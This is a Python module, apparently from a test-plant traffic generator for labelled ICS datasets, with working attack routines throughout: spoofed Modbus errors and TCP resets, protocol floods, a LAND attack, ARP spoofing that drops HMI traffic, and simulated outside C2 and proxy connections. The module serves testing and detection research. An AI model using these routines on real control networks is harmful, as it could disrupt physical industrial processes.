"""Frames of published sets: floods by whoever is there, connections broken from outside, cables, switches."""

from __future__ import annotations

import contextlib
import socket
import struct
import subprocess
import time
import uuid
from typing import TYPE_CHECKING, Final

from interlock.plant.machines import BY_NAME
from interlock.plant.protocols import cip, modbus
from interlock.plant.protocols.network import ARP, LLDP, LLDP_GROUP, arp, lldp
from interlock.plant.protocols.profinet import ETHERTYPE as PROFINET
from interlock.plant.wire.frames import End, ethernet, tcp
from proving.clients.talk import INTERFACE, Talk, at_its_card, held_up, ping, send_frames, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_LAPTOP: Final = BY_NAME["vendor-laptop"].end
_OUTSIDE: Final = BY_NAME["outside"].ip
_RST: Final = 0x04
_PUSHED: Final = 0x18
_SYN: Final = 0x02


def _end(to: str) -> End:
    return next(machine.end for machine in BY_NAME.values() if machine.ip == to)


def _run(*words: str) -> None:
    subprocess.run(words, check=False)


def errors_forged(to: str) -> None:
    """Modbus: exceptions in a controller's name told to the panel, by guessed numbers (Electra's forced errors)."""
    source, panel = End(_LAPTOP.mac, BY_NAME["plc-water"].end.ip), _end(to)
    frames = []
    for number in range(400):
        refused = modbus.adu(number, 1, b"\x84\x04")
        numbers = (0x10000000 + 0x00A00000 * number, 0x1000)
        frames.append(tcp(source, panel, (502, 33000 + number % 200), numbers, _PUSHED, refused))
    send_frames(frames, 0.02)


def resets_forged(to: str) -> None:
    """TCP: resets in a controller's name told to the panel, by guessed numbers."""
    source, panel = End(_LAPTOP.mac, BY_NAME["plc-boiler"].end.ip), _end(to)
    frames = [tcp(source, panel, (102, 32768 + n % 3000), (n * 65000, 0), _RST) for n in range(1500)]
    send_frames(frames, 0.005)


def nops_poured(to: str) -> None:
    """EtherNet/IP: commands that ask for nothing (NOP, ListInterfaces), two thousand."""
    with Talk(to, 44818, 0.01) as talk:
        for number in range(2000):
            talk.send(cip.encapsulate(0x64 if number % 10 == 0 else 0x00, 0))
            time.sleep(0.003)


def who_is_poured(to: str) -> None:
    """BACnet: everybody asked who is there, two thousand times."""
    near = to.rpartition(".")[0] + ".255"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
        talk.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for _ in range(2000):
            talk.sendto(b"\x81\x0b\x00\x0c\x01\x20\xff\xff\x00\xff\x10\x08", (near, 47808))
            time.sleep(0.004)


def connects_poured(to: str) -> None:
    """PROFINET: relations asked for over and over (Connect), each by another number."""
    rows = []
    interface = uuid.UUID("dea00001-6c97-11d1-8271-00a02442df7d")
    station = uuid.UUID("dea00000-6c97-11d1-8271-00010501002a")
    for number in range(300):
        relation = uuid.UUID(int=0xABCD0000 << 96 | number)
        block = struct.pack("!HHBBH", 0x0101, 58, 1, 0, 1) + relation.bytes + struct.pack("!H", number)
        block += (
            _LAPTOP.mac
            + uuid.UUID(int=7).bytes
            + struct.pack("!IHHH", 0x40000011, 600, 0x8892, 6)
            + b"laptop"
        )
        body = struct.pack("<IIIII", 1024, len(block), 1024, 0, len(block)) + block
        head = struct.pack("<BBBB3sB", 4, 0, 0x20, 0, b"\x10\0\0", 0) + station.bytes_le + interface.bytes_le
        head += uuid.UUID(int=0x1234 << 64 | number).bytes_le
        rows.append(head + struct.pack("<IIIHHHHHBB", 0, 1, 0, 0, 0xFFFF, 0xFFFF, len(body), 0, 0, 0) + body)
    tell(to, 34964, *rows, pause_s=0.01)


def cycles_poured(to: str) -> None:
    """PROFINET: cyclic frames of a number that no relation has, four thousand."""
    target = _end(to).mac
    frames = []
    for number in range(4000):
        body = struct.pack("!H", 0x8100) + bytes(40) + struct.pack("!HBB", number & 0xFFFF, 0x35, 0)
        frames.append(ethernet(target, _LAPTOP.mac, PROFINET, body))
    send_frames(frames, 0.002)


def pings_poured(to: str) -> None:
    """ICMP: echo requests as fast as it goes, by the engineering station."""
    with contextlib.suppress(OSError):
        ping(to, 4000, 0.002)


def datagrams_poured(to: str) -> None:
    """UDP: six thousand datagrams of whatever at a control port (LOIC)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
        for number in range(6000):
            with contextlib.suppress(OSError):
                talk.sendto(bytes((number & 255,)) * 512, (to, 502))
            time.sleep(0.001)


def land(to: str) -> None:
    """TCP: connections that a controller seems to begin with itself."""
    target = _end(to)
    frames = [tcp(End(_LAPTOP.mac, target.ip), target, (502, 502), (n, 0), _SYN) for n in range(60)]
    send_frames(frames, 0.1)


def managed_from_outside(to: str) -> None:  # noqa: ARG001 - outside
    """Remote control by a relay outside: TLS, and a sign of life every two seconds, by the engineering station."""
    extensions = (
        struct.pack("!HHHBH", 0, 21, 19, 0, 16) + b"relay.remote.tld" + b"\x00\x2b\x00\x03\x02\x03\x04"
    )
    hello = (
        b"\x03\x03"
        + bytes(range(32))
        + b"\x00\x00\x02\x13\x01\x01\x00"
        + struct.pack("!H", len(extensions))
        + extensions
    )
    hello = b"\x01" + len(hello).to_bytes(3, "big") + hello
    for port in (5938, 7070):
        with Talk(_OUTSIDE, port, 1.0) as talk:
            talk.say(b"\x16\x03\x01" + struct.pack("!H", len(hello)) + hello, 1.0)
            for _ in range(4):
                talk.say(b"\x17\x03\x03\x00\x10" + bytes(16), 1.0)


def proxied_outside(to: str) -> None:  # noqa: ARG001 - outside
    """SOCKS: the panel asks a proxy outside to connect it (version 5)."""
    for _ in range(5):
        with Talk(_OUTSIDE, 1080, 1.0) as talk:
            talk.say(b"\x05\x01\x00", 0.5)
            talk.say(b"\x05\x01\x00\x01\xc6\x33\x64\x07\x01\xbb", 1.0)


def dropped_between(to: str) -> None:
    """ARP: panel and station told that the other is here, and nothing passed on (MITM-DoS); then told the truth."""
    mine, panel, other = _LAPTOP.mac, BY_NAME["hmi"].end, _end(to)
    false = [
        ethernet(one.mac, mine, ARP, arp(2, End(mine, two.ip), one))
        for one, two in ((panel, other), (other, panel))
    ]
    send_frames(false * 12, 0.7)
    true = [
        ethernet(one.mac, two.mac, ARP, arp(2, two, one)) for one, two in ((panel, other), (other, panel))
    ]
    send_frames(true * 2, 0.2)


def frames_doubled(to: str) -> None:  # noqa: ARG001 - its own cable
    """A mirror port that hears both ways: a third of the panel's frames come twice, half a minute."""
    at_its_card("numgen random mod 3 == 0 dup to eth0", 28.0)


def panel_late(to: str) -> None:  # noqa: ARG001 - itself
    """The panel is busy: it stands still for a second and a half, over and over, half a minute."""
    held_up(7, 1.5, 2.5)


def cable_loses(to: str) -> None:  # noqa: ARG001 - its own cable
    """A bad cable: one frame in six of the filler's controller is lost, half a minute."""
    at_its_card("numgen random mod 6 == 0 drop", 28.0)


def segments_small(to: str) -> None:  # noqa: ARG001 - its own card
    """A card whose largest packet is smaller from now on, half a minute."""
    _run("ip", "link", "set", INTERFACE, "mtu", "300")
    time.sleep(28.0)
    _run("ip", "link", "set", INTERFACE, "mtu", "1500")


def announced(to: str) -> None:
    """A controller announces itself to its neighbours, as PROFINET's machines do (LLDP)."""
    mine = _end(to).mac
    send_frames(
        [ethernet(LLDP_GROUP, mine, LLDP, lldp(mine, "port-001", "plc-boiler", "controller"))] * 3, 4.0
    )


def tree_changed(to: str) -> None:
    """The switch tells of a port that came: the spanning tree changes (IEEE 802.1D, 9.3)."""
    mine = _end(to).mac
    bridge = b"\x80\x00" + mine
    frames = []
    for flags in (0, 1, 1, 1, 0):
        told = (
            bytes((0, 0, 0, 0, flags))
            + bridge
            + bytes(4)
            + bridge
            + b"\x80\x01"
            + struct.pack("!HHHH", 0, 0x1400, 0x200, 0xF00)
        )
        llc = b"\x42\x42\x03" + told
        frames.append(bytes.fromhex("0180c2000000") + mine + struct.pack("!H", len(llc)) + llc)
    send_frames(frames, 2.0)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "errors-forged": errors_forged,
    "resets-forged": resets_forged,
    "nops-poured": nops_poured,
    "who-is-poured": who_is_poured,
    "connects-poured": connects_poured,
    "cycles-poured": cycles_poured,
    "pings-poured": pings_poured,
    "datagrams-poured": datagrams_poured,
    "land": land,
    "managed-from-outside": managed_from_outside,
    "proxied-outside": proxied_outside,
    "dropped-between": dropped_between,
    "frames-doubled": frames_doubled,
    "panel-late": panel_late,
    "cable-loses": cable_loses,
    "segments-small": segments_small,
    "announced": announced,
    "tree-changed": tree_changed,
}
